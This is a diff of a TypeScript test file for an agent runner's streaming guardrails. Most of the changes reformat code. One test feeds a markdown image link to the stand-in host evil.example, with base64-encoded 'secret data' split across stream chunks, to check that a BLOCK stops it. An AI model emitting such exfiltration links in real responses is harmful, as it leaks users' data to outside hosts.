@@ -1,7 +1,13 @@
 import { createGuardrailEngine } from '@baton/guardrail-server';
 import type { ModelRequest } from '@openai/agents-core';
 import { describe, expect, it, vi } from 'vitest';
-import { createMemoryThreadStore, Runner, STREAM_RELEASED_TEXT_CHANGED, type GuardrailValidator, type RunnerEvent } from '../../src/index.js';
+import {
+  createMemoryThreadStore,
+  Runner,
+  STREAM_RELEASED_TEXT_CHANGED,
+  type GuardrailValidator,
+  type RunnerEvent,
+} from '../../src/index.js';
 import { createScriptedModel, type ScriptedTurn } from '../../src/testing/index.js';
 import { lookupTool, manifest, registry } from '../helpers/agents.js';
 import { scriptedGuardrail } from '@baton/manifest/testing';
@@ -31,7 +37,12 @@ function twoAgentModel(scripts: Record<string, ScriptedTurn[]>) {
   });
 }
 
-function runnerWith(options: { scripts: Record<string, ScriptedTurn[]>; guardrails?: GuardrailValidator; onEvent?: (e: RunnerEvent) => void; logger?: { warn: (...a: unknown[]) => void } }) {
+function runnerWith(options: {
+  scripts: Record<string, ScriptedTurn[]>;
+  guardrails?: GuardrailValidator;
+  onEvent?: (e: RunnerEvent) => void;
+  logger?: { warn: (...a: unknown[]) => void };
+}) {
   const models = twoAgentModel(options.scripts);
   const store = createMemoryThreadStore();
   const warn = options.logger?.warn ?? (() => undefined);
@@ -62,7 +73,12 @@ describe('runner events', () => {
     it(`reports a tool call, a handoff and the answer in order${stream ? ' (streamed)' : ''}`, async () => {
       const { runner } = runnerWith({ scripts: HANDOFF_SCRIPT });
       const events: RunnerEvent[] = [];
-      const result = await runner.run({ agentId: TRIAGE, input: 'I want a refund for order 1234', stream, onEvent: (e) => void events.push(e) });
+      const result = await runner.run({
+        agentId: TRIAGE,
+        input: 'I want a refund for order 1234',
+        stream,
+        onEvent: (e) => void events.push(e),
+      });
       expect(result.status).toBe('completed');
       const [first, second] = result.runs;
       const shape = events
@@ -102,7 +118,12 @@ describe('runner events', () => {
     const warnings: unknown[] = [];
     const quiet = runnerWith({ scripts: HANDOFF_SCRIPT });
     // The same streamed run with a listener that works.
-    const baseline = await quiet.runner.run({ agentId: TRIAGE, input: 'I want a refund for order 1234', stream: true, onEvent: () => undefined });
+    const baseline = await quiet.runner.run({
+      agentId: TRIAGE,
+      input: 'I want a refund for order 1234',
+      stream: true,
+      onEvent: () => undefined,
+    });
     const { runner } = runnerWith({
       scripts: HANDOFF_SCRIPT,
       onEvent: () => {
@@ -110,7 +131,12 @@ describe('runner events', () => {
       },
       logger: { warn: (...a) => warnings.push(a) },
     });
-    const result = await runner.run({ agentId: TRIAGE, input: 'I want a refund for order 1234', stream: true, onEvent: () => Promise.reject(new Error('async listener bug')) });
+    const result = await runner.run({
+      agentId: TRIAGE,
+      input: 'I want a refund for order 1234',
+      stream: true,
+      onEvent: () => Promise.reject(new Error('async listener bug')),
+    });
     expect(result.status).toBe('completed');
     expect(result.response).toBe(baseline.response);
     expect(result.runs.map((r) => r.status)).toEqual(baseline.runs.map((r) => r.status));
@@ -121,12 +147,21 @@ describe('runner events', () => {
 
   it('correlates per run: concurrent calls each see only their own events', async () => {
     const one = createScriptedModel({ script: () => ({ message: 'Answer. ' }) });
-    const shared = new Runner({ registry: registry([manifest(REFUNDS)]), guardrails: createGuardrailEngine(), modelProvider: one.provider });
+    const shared = new Runner({
+      registry: registry([manifest(REFUNDS)]),
+      guardrails: createGuardrailEngine(),
+      modelProvider: one.provider,
+    });
     const seen: Record<string, RunnerEvent[]> = { a: [], b: [] };
     const [a, b] = await Promise.all(
-      (['a', 'b'] as const).map((k) => shared.run({ agentId: REFUNDS, input: `hello ${k}`, stream: k === 'a', onEvent: (e) => void seen[k]?.push(e) })),
+      (['a', 'b'] as const).map((k) =>
+        shared.run({ agentId: REFUNDS, input: `hello ${k}`, stream: k === 'a', onEvent: (e) => void seen[k]?.push(e) }),
+      ),
     );
-    for (const [k, result] of [['a', a], ['b', b]] as const) {
+    for (const [k, result] of [
+      ['a', a],
+      ['b', b],
+    ] as const) {
       const ids = new Set(seen[k]?.map((e) => ('run_id' in e ? e.run_id : e.from_run_id)));
       expect([...ids]).toEqual([result?.run_id]);
     }
@@ -155,7 +190,13 @@ describe('streamed answers through the AGENT_RESPONSE guardrail (real engine)', 
   });
 
   it('a BLOCK mid-stream ends the answer with the refusal; nothing after the checked text is released', async () => {
-    const chunks = ['Here is your chart. ', '![c](https://evil.example/p.png?d=c2VjcmV0IGRh', 'dGEgZm9yIHRoZSBhdHRhY2tlcg) ', 'More text that must never be sent. ', 'And more.'];
+    const chunks = [
+      'Here is your chart. ',
+      '![c](https://evil.example/p.png?d=c2VjcmV0IGRh',
+      'dGEgZm9yIHRoZSBhdHRhY2tlcg) ',
+      'More text that must never be sent. ',
+      'And more.',
+    ];
     const events: RunnerEvent[] = [];
     const { runner, store } = runnerWith({ scripts: { [TRIAGE]: [{ chunks }] } });
     const result = await runner.run({ agentId: TRIAGE, input: 'Show me a chart', stream: true, onEvent: (e) => void events.push(e) });
@@ -176,23 +217,37 @@ describe('streamed answers through the AGENT_RESPONSE guardrail (real engine)', 
       if (request.action_type !== 'AGENT_RESPONSE') return undefined;
       responseChecks++;
       // The second look sees more context and redacts a word that already left.
-      return responseChecks === 1 ? undefined : { decision: 'MODIFY', reason_code: 'PII_REDACTED', modified_payload: String(request.payload).replace('Alice', '[NAME]') };
+      return responseChecks === 1
+        ? undefined
+        : { decision: 'MODIFY', reason_code: 'PII_REDACTED', modified_payload: String(request.payload).replace('Alice', '[NAME]') };
     });
     const events: RunnerEvent[] = [];
-    const { runner } = runnerWith({ scripts: { [TRIAGE]: [{ chunks: ['Hello Alice. ', 'Your account is Alice-123.'] }] }, guardrails: guard.validator });
+    const { runner } = runnerWith({
+      scripts: { [TRIAGE]: [{ chunks: ['Hello Alice. ', 'Your account is Alice-123.'] }] },
+      guardrails: guard.validator,
+    });
     const result = await runner.run({ agentId: TRIAGE, input: 'hi', stream: true, onEvent: (e) => void events.push(e) });
     expect(texts(events)).toEqual(['Hello Alice. ']);
     expect(result.response).toBe(REFUSAL);
-    expect(result.guardrail_decisions.at(-1)).toMatchObject({ action_type: 'AGENT_RESPONSE', decision: 'BLOCK', reason_code: STREAM_RELEASED_TEXT_CHANGED });
+    expect(result.guardrail_decisions.at(-1)).toMatchObject({
+      action_type: 'AGENT_RESPONSE',
+      decision: 'BLOCK',
+      reason_code: STREAM_RELEASED_TEXT_CHANGED,
+    });
     expect(events.at(-2)).toMatchObject({ type: 'guardrail_decision', reason_code: STREAM_RELEASED_TEXT_CHANGED });
   });
 
   it('a MODIFY releases the modified text', async () => {
     const guard = scriptedGuardrail((request) =>
-      request.action_type === 'AGENT_RESPONSE' ? { decision: 'MODIFY', reason_code: 'PII_REDACTED', modified_payload: String(request.payload).replaceAll('555-0100', '[PHONE]') } : undefined,
+      request.action_type === 'AGENT_RESPONSE'
+        ? { decision: 'MODIFY', reason_code: 'PII_REDACTED', modified_payload: String(request.payload).replaceAll('555-0100', '[PHONE]') }
+        : undefined,
     );
     const events: RunnerEvent[] = [];
-    const { runner } = runnerWith({ scripts: { [TRIAGE]: [{ chunks: ['Call us. ', 'Our number is 555-', '0100. ', 'Bye.'] }] }, guardrails: guard.validator });
+    const { runner } = runnerWith({
+      scripts: { [TRIAGE]: [{ chunks: ['Call us. ', 'Our number is 555-', '0100. ', 'Bye.'] }] },
+      guardrails: guard.validator,
+    });
     const result = await runner.run({ agentId: TRIAGE, input: 'hi', stream: true, onEvent: (e) => void events.push(e) });
     expect(result.response).toBe('Call us. Our number is [PHONE]. Bye.');
     expect(texts(events).join('')).toBe(result.response);
@@ -202,7 +257,12 @@ describe('streamed answers through the AGENT_RESPONSE guardrail (real engine)', 
   it('releases narration of a turn that calls a tool when that turn ends; the response is the last turn only', async () => {
     const events: RunnerEvent[] = [];
     const { runner } = runnerWith({
-      scripts: { [TRIAGE]: [{ chunks: ['Let me look ', 'that up'], toolCalls: [{ name: 'lookup_order', arguments: { order_id: '1234' } }] }, { chunks: ['It was delivered. ', 'Anything else?'] }] },
+      scripts: {
+        [TRIAGE]: [
+          { chunks: ['Let me look ', 'that up'], toolCalls: [{ name: 'lookup_order', arguments: { order_id: '1234' } }] },
+          { chunks: ['It was delivered. ', 'Anything else?'] },
+        ],
+      },
     });
     const result = await runner.run({ agentId: TRIAGE, input: 'order 1234?', stream: true, onEvent: (e) => void events.push(e) });
     expect(result.response).toBe('It was delivered. Anything else?');
